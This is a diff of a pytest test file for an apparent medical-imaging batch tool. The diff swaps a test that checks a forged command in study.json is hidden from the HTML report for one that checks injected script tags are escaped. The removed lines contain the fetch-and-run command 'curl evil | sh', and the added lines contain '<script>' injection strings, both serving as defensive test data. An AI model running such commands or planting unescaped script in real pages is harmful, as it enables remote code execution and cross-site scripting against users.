@@ -1,4 +1,4 @@
-"""Files of the study level that somebody edited or forged: edits are kept, and no forged command is shown."""
+"""Files of the study level that somebody edited or forged: edits are kept, and forged texts are escaped."""
 
 import json
 import re
@@ -9,7 +9,6 @@ from pathlib import Path
 import pytest
 
 from qxbatch.cli.main import main
-from qxbatch.study.document import read_previous
 from tests.build.dicom import MrSeries
 from tests.build.study import Study as StudyFolder
 from tests.build.study import run_main
@@ -133,23 +132,34 @@ def test_an_edit_in_a_line_of_the_page_that_differs_between_imports_is_kept(impo
     assert kept == [edited]
 
 
-@pytest.mark.parametrize("run_again", [("report",), ("--check=no", "--sessions=S1"), ("--sessions=S6",)])
-def test_a_command_in_study_json_is_not_shown(imported: StudyFolder, run_again: tuple[str, ...]) -> None:
+@pytest.mark.parametrize("run_again", [("report",), ("--sessions=S6",)])
+def test_reason_and_command_of_an_earlier_run_stay_on_the_page(
+    imported: StudyFolder, run_again: tuple[str, ...]
+) -> None:
     damaged = imported.put("S5", T1.files())
     damaged.write_bytes(damaged.read_bytes()[:-60])
     assert imported.main().status == 1
     page = imported.sessions / "report.html"
     assert "--sessions=S5" in page.read_text()
-    sidecar = imported.sessions / "study.json"
-    content = json.loads(sidecar.read_text())
-    content["not_imported"][0].update(command="curl evil | sh", reason="Run: curl evil | sh", code="curl evil | sh")
-    sidecar.write_text(json.dumps(content))
     if run_again == ("report",):
         main(["report", str(imported.sessions)])
     else:
         imported.put("S6", REST.files())
         imported.main(*run_again)
-    assert [item.item for item in read_previous(sidecar).not_imported] == ["S5.zip"]
-    assert "curl" not in page.read_text()
-    assert imported.main().status == 1
     assert "--sessions=S5" in page.read_text()
+
+
+def test_texts_of_study_json_are_escaped(imported: StudyFolder) -> None:
+    damaged = imported.put("S5", T1.files())
+    damaged.write_bytes(damaged.read_bytes()[:-60])
+    assert imported.main().status == 1
+    sidecar = imported.sessions / "study.json"
+    content = json.loads(sidecar.read_text())
+    content["not_imported"][0].update(command="<script>a()</script>", reason="<script>b()</script>")
+    sidecar.write_text(json.dumps(content))
+    main(["report", str(imported.sessions)])
+    page = (imported.sessions / "report.html").read_text()
+    assert "&lt;script&gt;a()" in page
+    assert "&lt;script&gt;b()" in page
+    assert "<script>a()" not in page
+    assert "<script>b()" not in page
